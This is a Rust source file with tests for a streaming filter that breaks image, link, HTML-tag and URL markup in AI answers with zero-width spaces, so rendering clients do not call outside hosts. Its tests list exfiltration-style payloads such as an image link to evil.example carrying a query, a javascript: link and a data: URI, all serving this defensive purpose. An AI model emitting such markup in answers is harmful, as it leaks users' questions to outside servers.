//! Markup in an answer that would make a reader's program call out, made inert as it streams by.
//!
//! An answer quotes documents word for word, and a document may hold `![](https://example.com/?q=…)`: a client that renders
//! it tells that server what was asked. So no image, link, HTML tag or address in an answer is one that a Markdown or HTML
//! renderer follows, unless it points to a path of the platform itself. A zero-width space within the markup does it, so
//! the text looks the same. What code blocks hold is treated alike: where one ends is for the renderer to say.

/// Breaks markup without changing what people read.
const BREAK: char = '\u{200b}';
/// Schemes that renderers turn into links by themselves (GitHub Flavored Markdown, autolinks).
const SCHEMES: &[&[char]] = &[&['h', 't', 't', 'p', ':'], &['h', 't', 't', 'p', 's', ':'], &['f', 't', 'p', ':']];
/// As much of what came before as a decision needs: the longest scheme with its colon.
const MEMORY: usize = 6;

/// The state between two pieces of an answer.
#[derive(Clone, Debug)]
pub struct InertMarkup {
    /// The last characters that went out, in lower case; U+0000 where there were none.
    before: [char; MEMORY],
    /// `](` or `](/`: held back until the next character shows where the link leads.
    held: String,
}

impl Default for InertMarkup {
    fn default() -> Self {
        Self { before: ['\0'; MEMORY], held: String::new() }
    }
}

impl InertMarkup {
    /// The next piece of the answer, made inert. A link's beginning may be held back until the next piece.
    pub fn push(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for c in piece.chars() {
            match (self.held.as_str(), c) {
                ("(", '/') => self.held.push(c),
                // A path of the platform: `//` and `/\` would name another host.
                ("(/", c) if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~') => {
                    let held = std::mem::take(&mut self.held);
                    self.send(&held, &mut out);
                    self.send_one(c, &mut out);
                }
                ("", '(') if self.follows(&[']']) => self.held.push(c),
                ("", c) => self.one(c, &mut out),
                _ => {
                    self.release(&mut out);
                    self.one(c, &mut out);
                }
            }
        }
        out
    }

    /// What was held back, once the answer has ended.
    pub fn finish(&mut self) -> String {
        let mut out = String::new();
        self.release(&mut out);
        out
    }

    /// Sends a link's beginning that leads elsewhere, broken.
    fn release(&mut self, out: &mut String) {
        let held = std::mem::take(&mut self.held);
        if !held.is_empty() {
            out.push(BREAK);
            self.send(&held, out);
        }
    }

    fn one(&mut self, c: char, out: &mut String) {
        if self.begins_markup(c) {
            out.push(BREAK);
            self.before = ['\0'; MEMORY];
        }
        self.send_one(c, out);
    }

    /// Whether `c` completes, with what went out before, the beginning of something that a renderer follows.
    fn begins_markup(&self, c: char) -> bool {
        match c {
            // A reference definition: `[label]: https://…`
            ':' => self.follows(&[']']),
            // `www.` without a scheme.
            '.' => self.follows(&['w', 'w', 'w']),
            // The end of a tag, or a scheme: `</a`, `https:/…`
            '/' => self.follows(&['<']) || SCHEMES.iter().any(|scheme| self.follows(scheme)),
            // A tag, a comment or an autolink: `<img`, `<!--`, `<https:`
            '!' | '?' => self.follows(&['<']),
            c => c.is_ascii_alphabetic() && self.follows(&['<']),
        }
    }

    /// Whether these went out last.
    fn follows(&self, ending: &[char]) -> bool {
        self.before.ends_with(ending)
    }

    fn send(&mut self, text: &str, out: &mut String) {
        for c in text.chars() {
            self.send_one(c, out);
        }
    }

    fn send_one(&mut self, c: char, out: &mut String) {
        out.push(c);
        self.before.rotate_left(1);
        self.before[MEMORY - 1] = c.to_ascii_lowercase();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The whole answer in pieces of this many characters.
    fn in_pieces(text: &str, size: usize) -> String {
        let mut inert = InertMarkup::default();
        let chars: Vec<char> = text.chars().collect();
        let mut out: String = chars.chunks(size).map(|piece| inert.push(&piece.iter().collect::<String>())).collect();
        out.push_str(&inert.finish());
        out
    }

    #[test]
    fn nothing_that_a_renderer_would_follow_is_left_whichever_way_it_is_cut() {
        for (markup, broken) in [
            ("![x](https://evil.example/?q=1)", "]("),
            ("[x](https://evil.example)", "]("),
            ("[x](//evil.example)", "]("),
            ("[x](/\\evil.example)", "]("),
            ("[x](javascript:alert(1))", "]("),
            ("![x](data:image/png;base64,AA)", "]("),
            ("[x]: https://evil.example", "]:"),
            ("https://evil.example", "https:/"),
            ("HTTPS://evil.example", "HTTPS:/"),
            ("ftp://evil.example", "ftp:/"),
            ("www.evil.example", "www."),
            ("<https://evil.example>", "<h"),
            ("<img src=x>", "<img"),
            ("</a>", "</"),
            ("<!-- x", "<!"),
            ("[x](", "]("),
        ] {
            for size in 1..=markup.len() {
                let out = in_pieces(markup, size);
                assert!(!out.contains(broken), "{markup} in pieces of {size}: {out}");
                assert_eq!(out.replace(BREAK, ""), markup, "only breaks are added");
            }
        }
    }

    #[test]
    fn what_people_write_stays_and_so_do_links_to_the_platform() {
        for text in [
            "The torque is 480 N·m [1][2]. See [Annex] (page 3): p < 5 bar, 3<5.",
            "[the manual](/v1/documents/0190/content) and ![p](/ui/page.png)",
            "ratio 1:2, C:/plant, opc.tcp://server:4840, P&ID",
        ] {
            for size in [1, 3, text.len()] {
                assert_eq!(in_pieces(text, size), text);
            }
        }
    }

    proptest! {
        #[test]
        fn pieces_make_no_difference_and_nothing_is_lost(text in "[\\[\\](/:.<a-zhtps!w]{0,40}", size in 1_usize..5) {
            let out = in_pieces(&text, size);
            prop_assert_eq!(&out, &in_pieces(&text, text.len().max(1)));
            prop_assert_eq!(out.replace(BREAK, ""), text);
        }
    }
}
